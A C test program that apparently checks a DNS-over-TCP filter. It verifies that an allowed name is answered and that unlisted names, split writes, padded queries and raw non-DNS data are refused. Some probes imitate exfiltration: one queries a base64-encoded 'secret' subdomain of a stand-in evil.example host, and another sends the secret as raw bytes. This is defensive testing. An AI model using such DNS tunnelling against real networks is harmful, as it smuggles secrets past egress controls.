// Questions over TCP: a listed name is answered there, too, and nothing else goes.
#define _GNU_SOURCE
#include "../names.h"

#define LISTED "db.example.com"
#define UNLISTED "c2VjcmV0.evil.example"

static char text[2048];

// The question at the end of `text`, with its length before it; what is used by then.
static size_t add(size_t used, const char* name, size_t more) {
  const size_t size = ask(text + used + 2, name) + more;
  memset(text + used + 2 + size - more, 'x', more);
  text[used] = (char)(size >> 8);
  text[used + 1] = (char)size;
  return used + 2 + size;
}

static int connected(int flags) {
  const int fd = socket(AF_INET, SOCK_STREAM | flags, 0);
  if (connect_to(fd, at4(SERVER, 53)) == 0) return fd;
  struct pollfd ready = {.fd = fd, .events = POLLOUT};
  if (errno != EINPROGRESS || poll(&ready, 1, 2000) != 1) give_up("connect");
  return fd;
}

// Answered: 0.
static long answer_of(int fd) {
  struct pollfd ready = {.fd = fd, .events = POLLIN};
  if (poll(&ready, 1, 5000) != 1) return closed_after(fd, (errno = ETIME, -1));
  char byte;
  const ssize_t got = read(fd, &byte, 1);
  if (got == 0) errno = ENODATA;
  return closed_after(fd, got == 1 ? 0 : -1);
}
static long asked(int fd, size_t size) {
  if (write(fd, text, size) != (ssize_t)size) return closed_after(fd, -1);
  return answer_of(fd);
}

static long try_listed(void) { return asked(connected(0), add(0, LISTED, 0)); }
static long try_not_waiting(void) { return asked(connected(SOCK_NONBLOCK), add(0, LISTED, 0)); }
static long try_two_listed(void) { return asked(connected(0), add(add(0, LISTED, 0), LISTED, 0)); }
static long try_in_pieces(void) {
  const int fd = connected(0);
  const size_t size = add(0, LISTED, 0);
  const int on = 1;
  setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof(on));
  for (size_t i = 0; i + 1 < size; ++i) {
    if (write(fd, text + i, 1) != 1) return closed_after(fd, -1);
  }
  return asked(fd, (text[0] = text[size - 1], 1));
}
static long try_unlisted(void) { return asked(connected(0), add(0, UNLISTED, 0)); }
static long try_unlisted_after(void) {
  const int fd = connected(0);
  const size_t size = add(0, LISTED, 0);
  if (write(fd, text, size) < 0) return closed_after(fd, -1);
  char answer[600];
  if (read(fd, answer, sizeof(answer)) <= 0) return closed_after(fd, -1);
  return asked(fd, add(0, UNLISTED, 0));
}
static long try_longer(void) { return asked(connected(0), add(0, LISTED, 600)); }
static long try_no_question(void) {
  memcpy(text, "\0\24the secret itself...", 22);
  return asked(connected(0), 22);
}

#define ACT(name) \
  { #name, try_##name }
static const struct act acts[] = {ACT(listed),    ACT(not_waiting), ACT(two_listed),
                                  ACT(in_pieces), ACT(unlisted),    ACT(unlisted_after),
                                  ACT(longer),    ACT(no_question), {NULL, NULL}};

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  return try_all(acts, argv + 1);
}
